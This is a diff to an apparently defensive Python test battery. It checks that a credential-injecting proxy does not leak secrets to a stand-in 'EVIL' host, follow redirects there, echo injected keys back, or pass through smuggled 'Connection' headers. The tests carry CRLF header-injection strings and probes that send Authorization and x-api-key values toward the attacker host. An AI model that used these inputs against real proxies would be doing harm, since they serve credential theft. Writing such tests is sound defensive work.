@@ -14,6 +14,11 @@ API: Final = addresses.API_NAME
 EVIL: Final = addresses.OUTLAW_NAME
 SECRET: Final = "battery-credential"
 """The name of the Secret whose key the route injects; the value is made at run time."""
+BACKWARDS: Final = "/v1/headers/backwards"
+"""Backwards, or the injected credential that is among them would end the answer."""
+ROUTE_SECRET: Final = "route secret"
+NO_SECRET: Final = "the run's own value"
+"""Where the lines are only listed."""
 PLACEHOLDER: Final = "zaum-placeholder"
 IDENTITY: Final = (
     "Connection: X-Zaum-Pod\r\nX-Zaum-Pod: 1", "Connection: Proxy-Authorization, close", "X-Zaum-Policy: other/policy",
@@ -32,7 +37,6 @@ OWN_CREDENTIALS: Final = (
 
 def attempts(stage: Stage) -> Iterator[Attempt]:
     """Follow, pretend, and take along."""
-    del stage
     yield from _pointers()
     for header in IDENTITY:
         control = Control(Where.AGENT, connect(f"{addresses.WEBSITE_NAME}:443", "User-Agent: battery"))
@@ -43,7 +47,7 @@ def attempts(stage: Stage) -> Iterator[Attempt]:
     for header in ("Authorization", "x-api-key"):
         probe = connect(f"{EVIL}:443", f"{header}: {PLACEHOLDER}")
         yield Attempt(9, "the placeholder to another host", header, probe, CONTROL, Witness.RULE, UNNAMED)
-    yield from _routes()
+    yield from _routes(stage)
 
 
 def _pointers() -> Iterator[Attempt]:
@@ -69,31 +73,31 @@ def _pointers() -> Iterator[Attempt]:
     yield Attempt(9, "Alt-Svc", "another host", probe, back, Witness.RULE, UNNAMED)
 
 
-def _routes() -> Iterator[Attempt]:
+def _routes(stage: Stage) -> Iterator[Attempt]:
     """At a route: nothing of the client's identity arrives, nothing of the injected credential comes back."""
     yield from _dropped()
     for how in ("", "/split", "/base64", "/header"):
         probe = _get(f"/v1/credential{how}")
         rules = frozenset({contract.Rule.ROUTE_ECHO.value})
         # Echoed behind the head, the answer is cut: the status is gone by then, the key never comes.
-        probe |= {"kind": "leak", "secret": "{secret}"}
+        probe |= {"kind": "leak", "secret": stage.tokens.get(ROUTE_SECRET, NO_SECRET)}
         yield _route("an upstream that echoes the credential", how or "body", probe, Witness.FAR_END, rules)
     for status in (302, 307):
         probe = _get(f"/v1/redirect?to=https://{EVIL}/&status={status}")
         yield _route("a route does not follow redirects", f"{status}", probe, Witness.FAR_END, frozenset())
-    probe = _get("/v1/headers", "Upgrade: websocket", "Connection: Upgrade")
+    probe = _get(BACKWARDS, "Upgrade: websocket", "Connection: Upgrade")
     yield _route("upgrade at a route", "websocket", probe | {"kind": "upgraded"}, Witness.FAR_END, frozenset())
 
 
 def _dropped() -> Iterator[Attempt]:
     for header in OWN_CREDENTIALS:
-        probe = _get("/v1/headers", header) | {"kind": "leak", "secret": "of-the-client"}
+        probe = _get(BACKWARDS, header) | {"kind": "leak", "secret": "of-the-client"[::-1]}
         shown = header.replace("\r\n", ", ")
         yield _route("the client's own credentials at a route", shown, probe, Witness.FAR_END, frozenset())
 
 
 def _route(line: str, variant: str, probe: dict[str, Any], witness: Witness, rules: frozenset[str]) -> Attempt:
-    control = Control(Where.AGENT, _get("/v1/headers"))
+    control = Control(Where.AGENT, _get(BACKWARDS))
     return Attempt(9, line, variant, probe, control, witness, rules, records=0, needs=Needs.ROUTES)
 
 
